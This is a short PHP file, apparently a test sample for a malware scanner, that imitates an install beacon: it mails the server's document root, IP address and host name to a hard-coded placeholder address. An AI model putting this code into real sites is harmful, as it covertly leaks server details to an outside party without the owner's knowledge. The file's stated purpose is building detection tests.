<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
// Reports where it was installed to a hard-coded address.
$to = "operator@example.invalid";
$msg = $_SERVER['DOCUMENT_ROOT'] . "\n" . $_SERVER['SERVER_ADDR'] . "\n" . $_SERVER['HTTP_HOST'];
mail($to, "installed", $msg);
